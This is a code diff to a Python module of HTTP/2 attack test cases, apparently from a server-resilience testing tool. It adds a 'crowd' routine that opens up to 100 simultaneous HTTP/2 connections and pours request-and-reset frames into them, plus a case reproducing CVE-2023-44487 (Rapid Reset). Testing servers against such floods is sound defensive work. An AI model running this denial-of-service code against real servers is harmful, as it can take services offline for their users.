@@ -5,8 +5,9 @@ Frames that are in order are hyperframe's; those that are not are made byte by b
 
 from __future__ import annotations
 
+import time
 from collections.abc import Callable, Iterator
-from itertools import chain, count, repeat
+from itertools import chain, count, islice, repeat
 
 from hpack import Encoder
 from hpack.hpack import encode_integer
@@ -24,9 +25,14 @@ from hyperframe.frame import (
 
 from .attack import Attack
 from .case import Case
+from .connection import Connection
+from .handshakes import SOURCE
 
 __all__ = ["CASES"]
 
+CROWD = 100
+SMALL_CROWD = 2
+PIECES_AT_ONCE = 100
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 HELLO = PREFACE + SettingsFrame(0).serialize()
 LARGEST_WINDOW = 2**31 - 1
@@ -108,6 +114,33 @@ def flood(pieces: Pieces, *, reads: bool = True) -> Callable[[Attack], None]:
             else:
                 connection.finish()
                 attack.over(connection)
+
+    return attack
+
+
+def crowd(pieces: Pieces) -> Callable[[Attack], None]:
+    """Say it on many connections at a time, as fast as each is heard."""
+
+    def attack(attack: Attack) -> None:
+        number = CROWD if attack.is_at_full_strength else SMALL_CROWD
+        said: dict[Connection, Iterator[bytes]] = {}
+        rest: dict[Connection, bytes] = {}
+        while attack.goes_on:
+            for _ in range(number):
+                connection = attack.connect(http2=True, source=SOURCE)
+                said[connection], rest[connection] = pieces(), HELLO
+            while said and time.monotonic() < attack.until:
+                for connection, saying in list(said.items()):
+                    if not rest[connection]:
+                        rest[connection] = b"".join(islice(saying, PIECES_AT_ONCE))
+                    taken = connection.offer(rest[connection])
+                    rest[connection] = rest[connection][taken:]
+                    if connection.end != "open":
+                        del said[connection]
+                        attack.over(connection)
+            for connection in said:
+                attack.cut_short(connection)
+            said.clear()
 
     return attack
 
@@ -448,6 +481,17 @@ IDLERS = (
     ),
 )
 
+CROWDS = (
+    Case(
+        "requests taken back on many connections",
+        "CVE-2023-44487",
+        crowd(requests(FOLLOW, reset)),
+        # All together are heard less of than each of them may say.
+        ("GOAWAY ENHANCE_YOUR_CALM", "open", "closed"),
+        "futile_streams",
+    ),
+)
+
 UNREAD = not_reading(*(each for each in FLOODS if each.name in SAID_WITHOUT_READING))
 
-CASES = (*FLOODS, *UNREAD, *BOMBS, *IDLERS)
+CASES = (*FLOODS, *UNREAD, *BOMBS, *CROWDS, *IDLERS)
